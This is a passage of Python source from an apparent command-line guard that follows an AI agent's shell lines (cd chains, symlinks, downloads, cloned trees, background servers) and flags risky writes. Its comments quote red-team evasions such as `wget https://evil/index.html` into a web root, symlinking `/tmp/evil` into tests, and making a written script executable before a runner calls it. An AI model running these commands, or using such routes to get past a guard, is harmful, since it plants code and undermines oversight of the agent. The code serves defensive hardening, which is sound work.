def _path_value(word: str) -> str:
    """The path in a path word: ``--env-file=e.list`` and ``of=x`` name ``e.list`` and ``x``
    (the write memory must know them as it knows ``--env-file e.list``)."""
    if word.startswith(("of=", "if=")):
        return word[3:]
    if word.startswith("-") and "=" in word:
        return word.split("=", 1)[1]
    return word


def _rewrite_word(word: str, base: str, links: dict[str, str]) -> str:
    if word.startswith(("of=", "if=")):
        return word[:3] + _rewrite_word(word[3:], base, links)
    if word.startswith("-") and "=" in word:
        k, v = word.split("=", 1)
        return k + "=" + _rewrite_word(v, base, links)
    if _is_relative(word) or any(word == n or word.startswith(n + "/") for n in links):
        return _resolve(word, base, links)
    if word.startswith(("/", "~")) and links:
        return _follow(word, links)
    return word


def resolve_command(c: SimpleCommand, base: str, links: dict[str, str]) -> SimpleCommand:
    """``c`` as run in directory ``base`` with the line's ``links``: relative paths joined,
    links followed. Words that are not paths stay as they are."""
    positions = _path_positions(c)
    argv = tuple(_rewrite_word(w, base, links) if i in positions else w
                 for i, w in enumerate(c.argv))
    redirects = tuple(
        r if r.target.isdigit() or r.target == "-" or r.op in ("<<", "<<-", "<<<") else
        Redirect(r.op, _rewrite_word(r.target, base, links), r.dynamic)
        for r in c.redirects)
    if base not in (START, UNKNOWN) and c.name in SEARCHERS:
        argv = _implicit_tree(c.name, argv, base)
    if argv == c.argv and redirects == c.redirects:
        return c
    # a directory joined in may itself be a glob (``cd /e*c``)
    return replace(c, argv=argv, redirects=redirects, globbed=rewritten_globs(c, argv))


def rewritten_globs(c: SimpleCommand, argv: tuple[str, ...]) -> tuple[bool, ...]:
    """``c.globbed`` for ``argv``, ``c``'s words with some rewritten (a directory joined in, a
    variable's value put in): a rewritten word with a glob character counts as globbed."""
    if len(c.globbed) != len(c.argv) or len(argv) < len(c.argv):
        return ()
    # words appended (the tree a search names implicitly) count by their characters
    return tuple(g if w == old else any(ch in w for ch in "*?[{")
                 for g, w, old in zip(c.globbed, argv, c.argv, strict=False)) + tuple(
        any(ch in w for ch in "*?[{") for w in argv[len(c.argv):])


def _implicit_tree(name: str, argv: tuple[str, ...], base: str) -> tuple[str, ...]:
    """A recursive search that names no tree reads its working directory: name it (``cd
    /srv/app && rg TODO`` reads /srv/app, which the catalogue and rules then judge)."""
    p = parse_opts(SEARCHERS[name], argv[1:])
    if isinstance(p, str) or searched_trees(name, p.pairs, p.ops) != (".",) or "." in p.ops:
        return argv
    return (*argv, base)


def _relative_paths(c: SimpleCommand) -> list[str]:
    words = [c.argv[i] for i in _path_positions(c)]
    words += [r.target for r in c.redirects if not r.target.isdigit() and r.target != "-" and
              r.op not in ("<<", "<<-", "<<<")]
    return [w for w in words if _is_relative(w) and w not in (".", "./")] + \
        [w for w in words if w in (".", "./")]


# --- the walk ------------------------------------------------------------------------------------
#: commands that change the state or whose judgement depends on it (the walk skips lines
#: without any of them)
#: tools that (re)start or reload services (_restarts_service)
_SERVICE_TOOLS = frozenset({"systemctl", "service", "pm2", "supervisorctl", "apachectl",
                            "apache2ctl", "rc-service", "sv", "initctl", "docker-compose",
                            "docker", "podman", "nginx", "httpd", "apache2", "kill",
                            "pkill", "killall", "touch"})


_STATEFUL = frozenset({"cd", "pushd", "popd", "chdir", "ln", "cp", "mv", "install", "env",
                       "chmod",
                       "sudo", "systemd-run", "git", "tar", "bsdtar", "unzip", "7z", "cpio",
                       "curl", "wget", "aria2c", "fetch", "lwp-download", "scp", "rsync",
                       "export", "declare", "typeset", "local", "readonly", "kill",
                       "source", ".", "rm"}) | \
    _READS_VARS | \
    frozenset(CODE_RUNNERS) | _SERVICE_TOOLS | frozenset(LINTER_CONFIGS)


_CHDIR_TOOLS = frozenset({"env", "sudo", "systemd-run", "make", "gmake", "tar", "bsdtar",
                          "git", "terraform",
                          "tofu", "npm", "pnpm", "yarn", "go", "gradle", "gradlew",
                          "./gradlew", "ctest", *LAUNCHERS})
_FETCHERS = frozenset({"git", "curl", "wget", "aria2c", "fetch", "lwp-download", "pip", "pip3",
                       "scp", "rsync", "tar", "bsdtar", "unzip", "7z", "cpio", "cp", "mv",
                       "install", "huggingface-cli", "hf", "kaggle", "docker", "podman",
                       *_BUCKET_DOWNLOAD})
#: a fetcher changes the state too: the plain walk keeps only what redirections and copies
#: write (red team s14: a bucket copy or a hub download then went unrecorded)
_STATEFUL = _STATEFUL | _FETCHERS | CONTENT_SNIFFERS
#: tools that take manifests, compose files, inventories, requirements or configuration
#: from the files their options and operands name (any subcommand)
CONFIG_READERS = frozenset(CODE_RUNNERS) | {"kubectl", "oc", "helm", "docker", "podman",
                                             "docker-compose", "ansible", "ansible-playbook",
                                             "ansible-inventory", "pip", "pip3", "terraform",
                                             "tofu", "source", "."} | CONTENT_SNIFFERS
_JUDGED = CONFIG_READERS | {"git", "tar", "bsdtar", "unzip", "rsync", "rm"} | _SERVICE_TOOLS | \
    frozenset(LINTER_CONFIGS)
_WRITE_OPS = (">", ">>", ">|", "&>", "&>>", "<>")


def walk(commands: tuple[SimpleCommand, ...], line: str = "",
         for_values: ForValues = ()) -> list[Step]:
    """One :class:`Step` per command, in order (see :func:`flow`)."""
    return flow(commands, line, for_values=for_values).steps


#: the parser's ``for NAME in WORDS`` loops (parse.ParseResult.for_values)
ForValues = tuple[tuple[str, tuple[str, ...] | None, int, int], ...]


def flow(commands: tuple[SimpleCommand, ...], line: str = "",
         earlier: tuple[tuple[str, str], ...] = (), start: str = START,
         for_values: ForValues = ()) -> Flow:
    """Walk the line. With the ``line`` text, a ``cd D && ...`` chain runs in D only (the
    commands after ``&&`` run only if the cd succeeded); after the chain ends (``;``, ``||``,
    a pipe, a subshell's end) the directory is D or the one before. ``earlier``: the trees
    earlier lines of the scope wrote, as ``(root relative to START or absolute, that line)``;
    they are judged like this line's own writes. ``start``: the directory the line starts in
    (a gated shell's earlier ``cd``: absolute, relative to START, or UNKNOWN)."""
    kinds = any(r.startswith((LIVE, PLANTED)) for r, _ in earlier)
    if start == START and not any(
            c.name in _STATEFUL or c.assignments or (c.argv and "/" in c.argv[0] and
                                                     _is_relative(c.argv[0])) or
            script_of(c.argv) is not None
            for c in commands) and " in " not in line:
        # no command that changes the state or runs code from a tree: nothing of it can use
        # what earlier lines wrote; what it writes (``>``, tee, sort -o, dd of=) is kept
        # for later lines, spelled as written (no cd, no link on the line)
        plain = _State()
        writes = tuple(dict.fromkeys(w for c in commands for w in _written(c, START, plain)))
        if not kinds or not (writes or any(c.name in _TOUCHERS for c in commands)):
            per = [_edited(c, START, plain, fed_shown(line, commands, i))
                   for i, c in enumerate(commands)]
            edited = [w for got in per for w in got]
            unedited = [w for c, got in zip(commands, per, strict=True)
                        for w in _written(c, START, plain) if w not in got]
            return Flow([Step() for _ in commands], writes,
                        edits=tuple(dict.fromkeys(e for e in edited if e not in unedited)))
    state = _State(dirs=[start])
    sends = _sends_to_background(line)
    for root, by in earlier:
        if root.startswith(LIVE):
            state.live.setdefault(root[len(LIVE):], by)
        elif root.startswith(PLANTED):
            state.sown.setdefault(root[len(PLANTED):], by)
        else:
            state.earlier.setdefault(root, by)
    lost = False
    # a loop's variable holds its words in the loop's body (the parser's words, after quote
    # removal: never text that only looks like a loop); after the body it is unknown (the
    # last word, or the environment's value when the loop ran in a subshell or not at all)
    starts: dict[int, list[tuple[str, tuple[str, ...] | None]]] = {}
    ends: dict[int, list[str]] = {}
    for name, words, at, end in for_values:
        if at >= 0:
            starts.setdefault(at, []).append((name, words))
        ends.setdefault(end if end >= 0 else len(commands), []).append(name)
    steps: list[Step] = []
    before: list[str] | None = None  # the directories before a cd && chain
    prev: SimpleCommand | None = None
    # variables set inside the current && chain, and whether it began a list (not after ||)
    chained: list[str] = []
    clean = True
    for index, c in enumerate(commands):
        check()  # each command's step reads all of its words: a long line's are long
        for name in ends.get(index, ()):
            state.vars[name] = []
        for name, words in starts.get(index, ()):
            state.vars[name] = list(words)[:MAX_VALUES] if words is not None and \
                len(words) <= MAX_VALUES else []
            # a variable the body changes (``x+=``, unset, read, a value the next pass
            # reads) is unknown in all of it, the loop's own too (red team s11)
            end = next((e if e >= 0 else len(commands) for n, _, a, e in for_values
                        if a == index and n == name), len(commands))
            for other in set().union(*(_assigned_names(b) for b in commands[index:end])):
                state.vars[other] = []
        step = Step()
        steps.append(step)
        gap = _gap(line, prev, c)
        if c.via == ():
            prev = c
            if gap != "&&":
                # a chain ended (or an || made what came before it conditional): a variable
                # set inside it may not have been set (``cd x && f=1 || cat $f``)
                for name in chained:
                    state.vars[name] = []
                chained.clear()
                clean = gap is None or gap in (";", "")
        if gap is not None and gap != "&&" and before is not None:
            _add_dirs(state, before)  # the chain ended: the cd may have failed
            before = None
        if not c.argv and not c.redirects:
            settled = c.via == () and _settled(line, commands, c.span)
            if not settled and c.via == () and clean and \
                    line[c.span[1]:].lstrip().startswith("&&"):
                # ``cd d && f=$(ls -t *.php | head -1) && sed -i ... "$f"``: what follows
                # with && runs only after the assignment did (the chain's end forgets it)
                _record_vars(c, state, True)
                chained.extend(_assigned_names(c))
            else:
                _record_vars(c, state, settled)
            continue
        own = [join(b, d) if not d.startswith(("/", "~")) else d
               for d in _chdir_of(c) for b in state.dirs] if c.name in _CHDIR_TOOLS else []
        dirs = list(dict.fromkeys([*state.dirs, *own]))
        # where this command reads, writes and runs
        trivial = dirs == [START] and not state.links
        rel = [] if trivial else _relative_paths(c)
        step.in_start = START in dirs or UNKNOWN in dirs
        subs: list[SimpleCommand] = []
        if state.vars and "$" in "".join(c.argv) + "".join(r.target for r in c.redirects):
            subs = _substituted(c, state)
            for sub in subs:
                for d in dirs:
                    if d != UNKNOWN:
                        step.variants.append((d, resolve_command(sub, d, state.links)))
            step.substituted = bool(subs) and UNKNOWN not in dirs and not any(
                any(s.dynamic) or any(r.dynamic for r in s.redirects) for s in subs)
            step.in_start = step.in_start and not step.substituted
        for d in [] if trivial or step.substituted else dirs:
            if d == START and not state.links:
                continue
            if d == UNKNOWN:
                if rel:
                    step.unresolved = f"{rel[0]!r} after a change to a directory the guard " \
                                      "cannot compute"
                continue
            v = resolve_command(c, d, state.links)
            if v is not c or not step.in_start:
                step.variants.append((d, v))
        if state.planted and not step.unresolved:
            inside = _inside_planted(c, dirs, state)
            if inside:
                step.unresolved = f"{inside!r} lies in a tree this line unpacked or cloned: " \
                                  "a symlink in it may point anywhere"
        if c.name in _JUDGED or (c.argv and "/" in c.argv[0]) or script_of(c.argv) is not None:
            _findings(c, dirs, state, step)
        if c.name == "kill" and state.written() and not step.unresolved:
            # a pid file the session wrote holds the agent's word (-1: every process)
            for p in filter(None, map(pidfile, c.args)):
                run = p.removeprefix("/var")  # /var/run is a link to /run
                root = state.root_of(run)
                root = root if root is not None else state.root_of("/var" + run)
                if root is not None:
                    step.unresolved = f"kill reads its process id from {p!r}, which " \
                                      f"{_by_whom(root, state.earlier)} wrote"
        # effects on the state for later commands
        if c.assignments or c.name in _SETS_VARS:
            _record_vars(c, state, c.via == () and _settled(line, commands, c.span))
        target = _cd_target(c)
        targets = [target]
        if target == UNKNOWN and state.vars:
            # ``cd $d`` in ``for d in api web``: each of the loop's words
            targets = [_cd_target(sub) or UNKNOWN for sub in subs] or [UNKNOWN]
        if target is not None:
            new = [UNKNOWN if t == UNKNOWN else
                   (_follow(join(b, t), state.links) if not
                    t.startswith(("/", "~")) else _follow(t, state.links))
                   for b in state.dirs for t in targets]
            if c.via == () and line and line[c.span[1]:].lstrip().startswith("&&"):
                before = list(dict.fromkeys([*(before or []), *state.dirs]))
                state.dirs = list(dict.fromkeys(new))[:MAX_DIRS + 1]
            else:
                _add_dirs(state, new)
        if own and (c.name in ("env", "sudo", "systemd-run") or c.name in LAUNCHERS):
            _add_dirs(state, own)  # the wrapped command runs there (conservatively, onwards)
        # what the command writes and fetches, with the line's variables in place
        # (``d=api; echo x > $d/Makefile``: api/Makefile, as written out)
        acts = subs if step.substituted else [c]
        out = [x for d in dirs for a in acts for x in _fetch_targets(a, d, state)] \
            if c.name in _FETCHERS else []
        if c.name in ("curl", "wget") and not step.unresolved:
            # a name the download takes from the URL lands where a cd left the line: outside
            # the tree and scratch it is a write no option spelled (red team s10: `cd
            # /var/www/html && wget https://evil/index.html`)
            away = next((t for t in out if t.startswith("/") and not t.startswith("/dev/")
                         and not _trees_under(norm(t), list(SCRATCH)) and not (
                             # a deploy root takes a release archive, never code or dot-files
                             norm(t).startswith(DEPLOY_ROOTS) and not CODE_FILE.search(t)
                             and not posixpath.basename(t).startswith(".")
                             and _RELEASE_ARCHIVE.search(t))), None)
            if away is not None:
                step.findings.append(FlowFinding(
                    "guard.unknown", (away,), f"{c.name} saves {away!r}, outside the working "
                    "tree and scratch space"))
            # a name from the URL in a dot-directory a cd entered (``cd .git/hooks``,
            # ``cd ~/.local/bin``): a tool's state or the login's programs (red team s14)
            dotted = next((t for t in out if any(
                p.startswith(".") and p not in (".", "..") for p in t.split("/"))), None)
            if away is None and dotted is not None:
                step.findings.append(FlowFinding(
                    "guard.unknown", (dotted,), f"{c.name} saves {dotted!r}, in a "
                    "dot-directory (a tool's state or the login's own)"))
        # what the line writes is the agent's content: never a tool's manifest or code later
        fed = fed_shown(line, commands, index)
        edited = [x for d in dirs for a in acts for x in _edited(a, d, state, fed)
                  if x != UNKNOWN]
        # a path this line also fills another way (a copy, a download) is not only an edit
        state.unedited.extend(x for x in out)
        written = [x for d in dirs for a in acts for x in _written(a, d, state)]
        state.unedited.extend(x for x in written if x not in edited)
        state.edited.extend(edited)
        out += written
        if state.live or state.live_here or state.sown:
            _through(c, dirs, state, step, out)
        if c.name == "mv" and (state.links or state.live):
            _moved_links(c, dirs, state, step)
        # (session 17) a discard (``curl -o /dev/null``) holds nothing anything runs later
        state.fetched.extend(x for x in out if x != UNKNOWN and x not in DISCARDS)
        # a write into a directory the guard cannot compute may be anywhere (for later
        # lines; this line's later commands are unresolved there already)
        lost = lost or UNKNOWN in out
        bucket_tree = c.name in _BUCKET_DOWNLOAD and any(
            a in ("--recursive", "-r", "-R", "sync", "rsync") for a in c.args)
        if (c.name in ("tar", "bsdtar", "unzip", "7z", "cpio") and _extracts(c)) or (
                c.name == "git" and (_git_sub(c)[0] == "clone" or _worktree_add(c))) or \
                _copies_links(c, dirs, state) or bucket_tree:
            for d in dirs:
                # (both resolved against d already: `cd w && git clone URL r` plants w/r)
                got = _written(c, d, state) if c.name not in ("git", *_BUCKET_DOWNLOAD) \
                    else _fetch_targets(c, d, state)
                state.planted.extend(x if x != UNKNOWN else d for x in got)
        if c.name == "chmod" and c.args and "x" in c.args[0] + ("x" if re.search(
                r"[1357]", c.args[0]) else ""):
            # a file the line wrote, made a program: a build script a runner may call
            # (red team s10: printf ... > scripts/build && chmod +x scripts/build && npm run)
            for d in dirs:
                for o in c.args[1:]:
                    r = _resolve(o, d, state.links)
                    if state.root_of(r) is not None:
                        state.planted.append(r)
        if c.name in ("cp", "mv", "rsync", "install"):
            # a copy of what this line wrote or fetched is unknown content in its new place
            for d in dirs:
                state.planted.extend(t for t in _fetch_targets(c, d, state) if t != UNKNOWN)
        if c.name in ("ln", "cp"):
            _links(c, dirs, state, step)
        if _serves(c) or c.argv and (
                c.name in CODE_RUNNERS or "/" in c.argv[0] or script_of(c.argv) is not None or
                c.name in _LONG_RUNNERS) and _backgrounded(sends, c):
            # a server runs what is written into its tree later, with no runner line the
            # memory could hold (red team s14 G1: ``php artisan serve &``, then a download
            # into public/). Whether it is left running is not decided by the line's text
            # (an ``&`` after a pipeline, another exec channel while it blocks this one:
            # H5): any server started makes its tree live, as a link's switch does
            for d in dirs:
                if d != UNKNOWN:
                    state.live_here += _live_spellings(d)
    ends = state.dirs if before is None else list(dict.fromkeys([*before, *state.dirs]))
    writes = tuple(dict.fromkeys(state.fetched)) + ((ANYWHERE,) if lost else ())
    # kinds for later lines (a path the guard could not place is ANYWHERE above already)
    writes += tuple(dict.fromkeys([*(PLANTED + p for p in state.planted if p != UNKNOWN),
                                   *(LIVE + p for p in state.live_here if p != UNKNOWN)]))
    edits = tuple(dict.fromkeys(e for e in state.edited if e not in state.unedited))
    return Flow(steps, writes, tuple(ends), edits)


#: commands that act on a link itself, never through it (``ls`` lists, ``rm`` unlinks)
_LINK_BLIND = frozenset({"ls", "rm", "rmdir", "unlink", "stat", "readlink", "find", "du",
                         "tree", "echo", "printf", "true", "false", ":", "test", "[",
                         "cd", "pushd", "popd", "mkdir"})


def _live_spellings(x: str) -> list[str]:
    """The spellings a live path is remembered by: the home is where a line starts
    (memory.py), so a relative path is also below ``~`` and ``~/x`` also relative."""
    if x.startswith("~/"):
        return [x, x[2:]]
    if x.startswith(("/", "~")):
        return [x]
    return [x, "~/" + x if x else "~"]


def _tidy(p: str) -> str:
    """``p`` without ``.`` and empty components (``./sub//e`` -> ``sub/e``); ``..`` stays
    (past a planted link it lands anywhere, and the prefix still says where it started)."""
    parts = [x for x in p.split("/") if x not in ("", ".")]
    return ("/" if p.startswith("/") else "") + "/".join(parts)


#: app runners' verbs that start a server (None: the runner is one)
_SERVER_VERBS: dict[str, frozenset[str] | None] = {
    "uvicorn": None, "gunicorn": None, "hypercorn": None, "daphne": None,
    "waitress-serve": None, "flask": frozenset({"run"}), "rails": frozenset({"server", "s"}),
    "streamlit": frozenset({"run"}), "hugo": frozenset({"server", "serve"}),
    "jekyll": frozenset({"serve", "s"}), "artisan": frozenset({"serve"})}


#: package scripts and tools that start a development server or a watcher (it reloads what
#: changes below it): ``npm run dev``, ``npm start``, ``next dev``, ``nodemon``, bare ``vite``
_DEV_SCRIPTS = frozenset({"dev", "start", "serve", "watch", "preview", "develop"})
_DEV_SERVERS = frozenset({"nodemon", "next", "nuxt", "vite", "webpack-dev-server", "astro",
                          "remix", "gatsby", "ng", "ember", "parcel"})


#: an ``&`` that is not ``&&``, ``&>``, ``>&`` or ``|&``
_BACKGROUND = re.compile(r"(?<![&>|])&(?![&>])")
#: runners of a tree's code that may keep running in the background (a task runner's dev
#: target, a script): with ``&`` they make their tree live as a server does (round four, F4)
_LONG_RUNNERS = frozenset({"make", "gmake", "npm", "yarn", "pnpm", "bun", "turbo", "nx", "just",
                           "task", "node", "deno", "ruby", "php", "java", "python", "python3",
                           "go", "cargo", "dotnet", "foreman", "overmind", "honcho"})


def _backgrounded(sends: bool, c: SimpleCommand) -> bool:
    """``c`` may be left running: the line sends something to the background (``sends``:
    :func:`_sends_to_background`), or ``c`` runs under nohup, setsid or a nested shell (its
    text may hold an ``&`` the outer line spells otherwise: ``bash -c $'... \\x26'``)."""
    return sends or any(v in ("nohup", "setsid") or v.endswith(" -c") for v in c.via)


def _sends_to_background(line: str) -> bool:
    """The line sends something to the background: a process substitution (bash does not
    wait for it: round six), or an ``&`` anywhere (a group, a chain or a nested shell may hold
    the runner: ``sleep 60 && make test || true &``, ``(x; make) &``, ``bash -c 'make &'``:
    round five). Text, so a quoted ``&`` counts too. Once a line, not once a command."""
    return "<(" in line or ">(" in line or bool(line) and _BACKGROUND.search(
        line.replace("\\\n", "")) is not None


def _serves(c: SimpleCommand) -> bool:
    """``c`` starts a server of the tree (an app runner's server verb, ``php artisan serve``,
    ``bin/rails server``, ``php -S``, ``python -m http.server``, a package's dev or start
    script, a dev server or watcher), which loads the tree's files as it runs. Asked of every
    command a line unwraps to: each test looks at the name first, then at few words."""
    argv, name = c.argv, c.name
    if name == "php":
        if "-S" in argv:
            return True
        if len(argv) > 1 and posixpath.basename(argv[1]) == "artisan":
            return any(a == "serve" for a in argv[2:] if not a.startswith("-"))
    if PYTHON_NAME.fullmatch(name):
        return argv[1:3] == ("-m", "http.server") or _first_words(argv, 2) == [
            "manage.py", "runserver"]
    if name in ("npm", "yarn", "pnpm", "bun"):
        words = _first_words(argv, 2)
        if words[:1] and words[0] in _DEV_SCRIPTS or words[:1] == ["run"] and \
                words[1:2] and words[1] in _DEV_SCRIPTS:
            return True
    if name in _DEV_SERVERS and _first_words(argv, 1) in ([], ["dev"], ["serve"], ["start"],
                                                           ["preview"], ["develop"]):
        return True
    if name == "webpack" and _first_words(argv, 1) in (["serve"], ["watch"]) or \
            "--watch" in argv:
        return True
    base = posixpath.basename(argv[0]) if argv else ""
    if base not in _SERVER_VERBS:
        return False
    verbs = _SERVER_VERBS[base]
    return verbs is None or any(a in verbs for a in argv[1:] if not a.startswith("-"))


def _first_words(argv: tuple[str, ...], n: int) -> list[str]:
    """The first ``n`` words of ``argv[1:]`` that are not options."""
    out: list[str] = []
    for a in argv[1:]:
        if not a.startswith("-"):
            out.append(a)
            if len(out) == n:
                break
    return out


def _inside_planted(c: SimpleCommand, dirs: list[str], state: _State) -> str:
    """A path word of ``c`` strictly below a tree the line unpacked or cloned, or ""."""
    words = [] if c.name in _LINK_BLIND else [_path_value(c.argv[i]) for i in
                                               sorted(_path_positions(c)) if i < len(c.argv)]
    words += [r.target for r in c.redirects if not r.target.isdigit() and
              r.op not in ("<<", "<<-", "<<<")]
    roots = [_tidy(t) for t in state.planted]
    for w in words:
        for d in dirs:
            if d == UNKNOWN:
                continue
            q = _tidy(_resolve(w, d, state.links))
            if any(q.startswith(r + "/") if r not in ("", ".") else not q.startswith(
                    ("/", "~")) for r in roots):
                return w
    return ""


#: commands that make files through the paths they are given (no content: not _written);
#: an empty file is a switch (/etc/nologin, a masked unit). mkdir makes only directories.
_TOUCHERS = frozenset({"touch"})
#: commands that write a whole tree into their destination, through the links it holds
_TREE_WRITERS = frozenset({"cp", "mv", "rsync", "install", "tar", "bsdtar", "unzip", "7z",
                           "cpio", "git"})
_RECURSIVE = frozenset({"-r", "-R", "-a", "--recursive", "--archive"})


def _copies_links(c: SimpleCommand, dirs: list[str], state: _State) -> bool:
    """``c`` copies or moves a tree from outside the working tree, or from one planted with
    links: its symlinks come along (cp -r and rsync -a copy a link as a link)."""
    if c.name not in ("cp", "mv", "rsync") or c.name != "mv" and not any(
            a in _RECURSIVE or (a[:1] == "-" and a[1:2] != "-" and any(x in a for x in "rRa"))
            for a in c.args):
        return False
    ops = [a for a in c.args if not a.startswith("-")]
    planted = [_tidy(t) for t in state.planted]
    for o in ops[:-1]:
        if o.startswith(("/", "~", "$")) or ".." in o.split("/") or ":" in o:
            return True  # (a remote's tree too: rsync -a host:d copies its links)
        if any(_root_of(_tidy(_resolve(o, d, state.links)), planted, state.sown) is not None
               for d in dirs if d != UNKNOWN):
            return True
    return False


def _through(c: SimpleCommand, dirs: list[str], state: _State, step: Step,
             out: list[str]) -> None:
    """A write into a live path (a forced link's target or name: a service runs what is
    there), or below a tree an earlier line planted (a symlink in it may point at ~/.bashrc,
    ~/.ssh, /etc): reads stay ordinary, writes through it are not."""
    paths = list(out)
    if c.name in _TOUCHERS:
        paths += [_resolve(o, d, state.links) for o in c.args if not o.startswith("-")
                  for d in dirs if d != UNKNOWN]
    if c.name == "git" and _git_sub(c)[0] in _GIT_WRITES:
        paths += [join(b, t) if not t.startswith(("/", "~")) else t
                  for t in _chdir_of(c) for b in dirs] or list(dirs)
    for p in dict.fromkeys(paths):
        if p in (UNKNOWN, ANYWHERE):
            continue
        q = _tidy(p)
        # `..` as the kernel resolves it textually too (`x/../repo/n` is below repo; past a
        # link it may be elsewhere as well, which the unnormalised spelling keeps)
        up = _ancestors(q) + (_ancestors(posixpath.normpath(q)) if ".." in q.split("/") else [])
        live = next((a for a in up if a in state.live or a in state.live_here), None)
        if live is not None:
            who = "this line" if live in state.live_here else \
                f"an earlier line ({state.live[live]!r})"
            step.findings.append(FlowFinding(
                "fs.link-sensitive", (p,), f"writes into {p or '.'!r}, which {who} made "
                "live (a link a service runs from, or a server left running there): a "
                "service runs what is there"))
            return
        # a tree writer follows a link at its destination too; one file's write, only the
        # links above it
        root = next((a for a in (up if c.name in _TREE_WRITERS else up[1:])
                     if a in state.sown), None)
        if root is not None and not step.unresolved:
            step.unresolved = f"{p!r} lies in a tree an earlier line ({state.sown[root]!r}) " \
                              "cloned, unpacked or copied: a symlink in it may point anywhere"
            return


def _gap(line: str, prev: SimpleCommand | None, c: SimpleCommand) -> str | None:
    """The operator text between two top-level commands, or None when unknown."""
    if not line or prev is None or c.via != () or prev.span[1] > c.span[0]:
        return None
    return line[prev.span[1]:c.span[0]].strip()


def _add_dirs(state: _State, new: list[str]) -> None:
    merged = list(dict.fromkeys([*state.dirs, *new]))
    if len(merged) > MAX_DIRS + 1:
        merged = [*merged[:MAX_DIRS], UNKNOWN]
    state.dirs = merged


def _links(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> None:
    symbolic = c.name == "ln" and any(
        a in ("-s", "--symbolic") or (a.startswith("-") and not a.startswith("--") and
                                      "s" in a[1:]) for a in c.args)
    symbolic = symbolic or (c.name == "cp" and any(a in ("-s", "--symbolic-link") for a in
                                                   c.args))
    if not symbolic:
        return
    forced = c.name == "ln" and any(LN_FORCE.fullmatch(a) for a in c.args)
    # ln -r resolves TARGET against the directory ln runs in, not the link's (red team s9b
    # F2: `ln -rs . sub/up` makes sub/up -> .., the working directory itself)
    relative = c.name == "ln" and any(
        len(a) > 2 and "--relative".startswith(a) if a.startswith("--") else
        a.startswith("-") and "r" in a[1:] for a in c.args)
    ops = [a for a in c.args if not a.startswith("-")]
    dyn = any(c.dynamic[1:]) if c.dynamic else False
    if not ops:
        return
    target = ops[0]
    names = [ops[1]] if len(ops) >= 2 else [target.rstrip("/").rsplit("/", 1)[-1]]
    for d in dirs:
        for name in names:
            where = join(d, name) if not name.startswith(("/", "~")) else name
            tgt = target if target.startswith(("/", "~")) else \
                join(d if relative or where == START else _dir_of(where), target)
            tgt = _follow(tgt, state.links)
            why = "its target is computed" if dyn else sensitive_target(tgt) or (
                "it is a name for the working directory or a directory above it (the home "
                "in an exec session), which the tree's checks would not see through" if
                tgt != UNKNOWN and all(p in ("", ".", "..") for p in tgt.split("/")) else "")
            # content this session or anyone wrote: scratch, a written tree, a tree with a
            # written file below it
            untrusted = _untrusted_target(tgt, state)
            if not why and untrusted and (forced or name.startswith("/")):
                # -f replaces a link something may run from (a release's `current`, also
                # made anew out of the tree; safe.py keeps the target in the tree or a
                # sibling release)
                why = f"replaces the link with one to {untrusted}"
            if why:
                step.findings.append(FlowFinding("fs.link-sensitive", (tgt,), why))
            if where and where != UNKNOWN and tgt != UNKNOWN:
                # a link is a name something reaches its target by (-f: replaces one a service
                # may run from; or moved over it, mv -T): what is written into the target
                # or through the name later goes live (red team s9b F4: switch first, fill
                # the release afterwards)
                for x in (tgt.rstrip("/") or "/", where.rstrip("/") or "/"):
                    # `..` as the memory places it (`ln -sfn ../releases/7 app/current`);
                    # the home is where the line starts (memory.py): both spellings
                    x = posixpath.normpath(x) if ".." in x.split("/") else x
                    state.live_here += _live_spellings(x)
            if where and where != UNKNOWN:
                state.links[where.rstrip("/")] = tgt.rstrip("/") or "/"
                if untrusted:
                    # a name for such a tree is one too, for later lines (which do not know
                    # this line's links): ``ln -s /tmp/x rel``, then ``cd rel && make``
                    state.fetched.append(where.rstrip("/"))
                    # and content no one judged below where runners walk (red team s10:
                    # ``ln -s /tmp/evil tests/vendor``, then ``pytest``)
                    state.planted.append(where.rstrip("/"))
                if name in (".", "./") or name.endswith("/"):
                    base = target.rstrip("/").rsplit("/", 1)[-1]
                    state.links[join(where, base).rstrip("/")] = tgt.rstrip("/") or "/"


#: what a restart or reload of a service leaves as data: anything else written may be what
#: the service runs (its code, its configuration, a template it renders). Never a pickle or
#: a format that may hold one (.pkl, .npy, .pt, .joblib, .h5 models): loading it runs code
_DATA_WRITTEN = re.compile(r"\.(txt|log|csv|tsv|md|out|err|bak|orig|tmp|png|jpe?g|gif|svg|"
                           r"pdf|gz|tgz|zip|tar|xz|bz2|zst|parquet|sqlite3?|db)$")
_RESTART_VERBS = frozenset({"restart", "reload", "try-restart", "reload-or-restart",
                            "try-reload-or-restart", "start", "condrestart", "force-reload",
                            "graceful", "up", "update"})


def _restarts_service(c: SimpleCommand) -> bool:
    """``c`` (re)starts or reloads a service: it runs that service's code and configuration
    as they are on disk now."""
    n, words = c.name, [a for a in c.args if not a.startswith("-")]
    if n in ("systemctl", "service", "pm2", "supervisorctl", "apachectl", "apache2ctl",
             "rc-service", "sv", "initctl", "docker-compose"):
        return bool(_RESTART_VERBS & set(words))
    if n in ("docker", "podman"):
        return words[:1] in (["restart"], ["start"]) or (words[:1] == ["compose"] and bool(
            {"restart", "up", "start"} & set(words[1:])))
    if n in ("nginx", "httpd", "apache2"):
        return "-s" in c.args or "-k" in c.args
    if n == "touch":
        # an app server's restart file: Passenger reloads on tmp/restart.txt, uWSGI on its
        # touch-reload file, mod_wsgi on a .wsgi (red teams s10, s10b)
        return any(_RESTART_FILE.search(w) or w.endswith(".wsgi") or "uwsgi" in w
                   for w in words)
    # any signal: a supervisor starts the worker it stopped again, on the new code
    return n in ("kill", "pkill", "killall")


_RESTART_FILE = re.compile(r"(^|/)tmp/(always_)?restart\.txt$|(^|/)[^/]*reload[^/]*$|"
                           r"\.uwsgi-reload$")


#: test data and backups a line wrote: no service runs them
_DATA_PLACE = re.compile(r"(?:^|/)(tests?/data|testdata|test-data|fixtures|__fixtures__)/|"
                         r"\.(bak|orig|old|save|backup)(\.[^/]*)?$|~$")


def _code_written(state: _State) -> str | None:
    """A path this scope wrote that a service may run (not data, not scratch), or None."""
    for f in (*state.fetched, *state.earlier):
        if f == ANYWHERE or not (f.startswith(SCRATCH) or _DATA_WRITTEN.search(f) or
                                 _DATA_PLACE.search(f)):
            return f
    return None


def _untrusted_target(tgt: str, state: _State) -> str:
    """Why a link to ``tgt`` points at content this session or anyone wrote (scratch, a
    written tree, a tree with a written file below it), or ""."""
    return "" if tgt == UNKNOWN else untrusted_dir(tgt, state.fetched, state.earlier) or next((
